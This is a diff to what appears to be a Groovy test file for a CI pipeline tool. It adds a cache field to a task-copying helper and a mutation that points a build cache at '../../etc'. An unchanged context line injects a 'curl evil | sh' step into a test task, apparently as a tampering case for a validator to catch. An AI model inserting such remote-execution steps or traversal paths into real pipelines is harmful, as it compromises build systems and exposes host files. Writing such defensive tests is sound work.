@@ -86,6 +86,7 @@ job('j') {
                 { List<Task> t -> t.collect { it.name() == 'test[jdk=21,db=pg]' ? retask(it, [steps: [new Step.Sh('curl evil | sh', it.pos())]]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [needs: ['build']]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'sum' ? retask(it, [retry: 3]) : it } },
+                { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [cache: new io.stoker.model.Cache('deps', ['../../etc'], [])]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'test[jdk=17,db=pg]' ? retask(it, [matrix: [jdk: '17', db: 'my']]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'gen' ? retask(it, [name: 'g e n', baseName: 'g e n']) : it } },
         ]
@@ -106,9 +107,9 @@ job('j') {
 
     static Task retask(Task t, Map changes) {
         def v = [name: t.name(), baseName: t.baseName(), matrix: t.matrix(), steps: t.steps(), needs: t.needs(), input: t.input(),
-                 env: t.env(), secrets: t.secrets(), artifacts: t.artifacts(), artifactsWhen: t.artifactsWhen(), retry: t.retry(), timeoutMillis: t.timeoutMillis(),
+                 env: t.env(), secrets: t.secrets(), artifacts: t.artifacts(), artifactsWhen: t.artifactsWhen(), cache: t.cache(), retry: t.retry(), timeoutMillis: t.timeoutMillis(),
                  allowFailure: t.allowFailure(), when: t.when(), agent: t.agent(), approval: t.approval(), container: t.container(), pos: t.pos()] + changes
-        new Task(v.name, v.baseName, v.matrix, v.steps, v.needs, v.input, v.env, v.secrets, v.artifacts, v.artifactsWhen, v.retry,
+        new Task(v.name, v.baseName, v.matrix, v.steps, v.needs, v.input, v.env, v.secrets, v.artifacts, v.artifactsWhen, v.cache, v.retry,
                 v.timeoutMillis, v.allowFailure, v.when, v.agent, v.approval, v.container, v.pos)
     }
 }
